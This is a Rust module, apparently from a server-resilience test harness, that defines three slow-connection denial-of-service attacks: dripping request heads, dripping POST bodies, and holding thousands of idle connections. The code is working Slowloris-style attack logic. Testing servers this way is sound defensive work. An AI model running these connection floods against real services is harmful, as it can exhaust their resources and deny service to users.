//! Clients that say next to nothing.

use std::{io, rc::Rc, time::Duration};

use futures_util::FutureExt as _;
use tokio::{io::AsyncWriteExt as _, time::sleep};

use crate::{
    attack::{Abuse, Attacker, Ended, HeldTo, Receives},
    link::{Link, answers, both},
};

/// Between two bytes: within every timeout that a single byte sets back.
const PACE: Duration = Duration::from_secs(1);

pub const ABUSES: &[Abuse] = &[
    Abuse {
        name: "slow-heads",
        what: "1,000 connections of HTTP/1.1 that send a byte of their head each second.",
        held_to: HeldTo::Aims,
        connections: 1_000,
        run: |attacker| drip(attacker, "GET / HTTP/1.1\r\nx-slow: ").boxed_local(),
    },
    Abuse {
        name: "slow-bodies",
        what: "1,000 POSTs over HTTP/1.1 that send a byte of their body each second.",
        held_to: HeldTo::Aims,
        connections: 1_000,
        run: |attacker| {
            let host = &attacker.host;
            let head =
                format!("POST / HTTP/1.1\r\nhost: {host}\r\ncontent-length: 1000000\r\n\r\n");
            async move { drip(attacker, &head).await }.boxed_local()
        },
    },
    Abuse {
        name: "idle",
        what: "5,000 connections that say nothing.",
        held_to: HeldTo::Aims,
        connections: 5_000,
        run: |attacker| drip(attacker, "").boxed_local(),
    },
];

/// Sends the beginning at once and then a byte each [`PACE`], or nothing at all.
async fn drip(attacker: Rc<Attacker>, begin: &str) -> io::Result<Ended> {
    let Link { read, mut write } = Link::cleartext(&attacker, Receives::Much).await?;
    let writing = async {
        if begin.is_empty() {
            return Ok(());
        }
        write.write_all(begin.as_bytes()).await?;
        attacker.sent(0, begin.len());
        loop {
            sleep(PACE).await;
            write.write_all(b"x").await?;
            attacker.sent(1, 1);
        }
    };
    both(writing, answers(read, Rc::clone(&attacker))).await
}
